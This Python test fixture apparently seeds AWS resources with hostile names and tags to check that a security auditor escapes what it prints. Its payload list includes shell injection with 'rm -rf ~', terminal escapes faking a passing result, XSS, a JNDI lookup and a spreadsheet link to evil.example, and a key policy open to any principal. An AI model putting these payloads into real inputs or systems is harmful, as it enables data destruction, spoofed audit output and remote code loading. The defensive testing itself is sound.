"""Resources whose names and tags attack whoever prints them; for tests, no part of the demo."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

from auditor.demo.builders.site import session
from auditor.demo.documents import allow, key_administration, policy
from auditor.demo.gaps import install_gaps

# What the text is after -> the text.
HOSTILE: Mapping[str, str] = {
    "terminal": "\x1b[2J\x1b[31mall checks passed\x1b[0m",
    "title": "\x1b]0;owned\x07",
    "newline": "harmless\nPASS everything",
    "return": "FAIL\rPASS",
    "shell": "$(touch /tmp/owned); `reboot`; ' || rm -rf ~ #",
    "option": "--no-verify-ssl",
    "spreadsheet": '=HYPERLINK("http://evil.example","click")',
    "markup": "<script>alert(1)</script>",
    "markdown": "[click](javascript:alert(1)) | **bold** | `code`",
    "direction": "invoice\u202egnp.exe",
    "invisible": "prod\u200buction",
    "template": "{{ 7 * 7 }} ${jndi:ldap://evil.example} %s {0}",
    "long": "x" * 256,
}

# XML 1.0 has no way to write these, not even escaped.
_NOT_IN_XML = frozenset({"terminal", "title"})


def hostile(endpoint: str | None = None, region: str = "eu-west-1") -> tuple[str, ...]:
    """Make a key and an alarm of each kind; a group and a topic where XML can carry the text.

    Answers the ids of the keys. AWS refuses control characters in most of these places; what an
    auditor reads may come from a file or from an emulator, so it is not spared them.
    """
    install_gaps()
    here = session(region)
    services = ("ec2", "cloudwatch", "kms", "sns")
    ec2, cloudwatch, kms, sns = (here.client(s, endpoint_url=endpoint) for s in services)
    vpc = ec2.create_vpc(CidrBlock="10.66.0.0/16")["Vpc"]["VpcId"]
    keys = []
    for number, (kind, text) in enumerate(HOSTILE.items()):
        key = kms.create_key(
            Description=text,
            Policy=_open_to_all(text),
            Tags=[{"TagKey": "Name", "TagValue": text[:256]}],
        )
        keys.append(str(key["KeyMetadata"]["KeyId"]))
        _alarm(cloudwatch, f"{number} {text}"[:255], text)
        if kind in _NOT_IN_XML:
            continue
        tags = [{"Key": "Name", "Value": text}, {"Key": text[:127], "Value": kind}]
        ec2.create_security_group(
            GroupName=f"{number} {text}"[:255],
            Description=text[:255],
            VpcId=vpc,
            TagSpecifications=[{"ResourceType": "security-group", "Tags": tags}],
        )
        sns.create_topic(Name=f"topic-{number}", Tags=[{"Key": "Name", "Value": text}])
    return tuple(keys)


def _open_to_all(text: str) -> str:
    """A key policy that is reported, so that the name of its statement is printed."""
    return json.dumps(
        policy(key_administration(), allow(("kms:Decrypt",), Sid=text, Principal="*"))
    )


def _alarm(cloudwatch: Any, name: str, text: str) -> None:
    cloudwatch.put_metric_alarm(
        AlarmName=name,
        AlarmDescription=text,
        # Switched off, so that the command that switches it on is printed with its name.
        ActionsEnabled=False,
        AlarmActions=["arn:aws:automate:eu-west-1:ec2:reboot"],
        Namespace="Shop",
        MetricName="Orders",
        Statistic="Sum",
        Period=60,
        EvaluationPeriods=3,
        Threshold=1.0,
        ComparisonOperator="LessThanThreshold",
    )
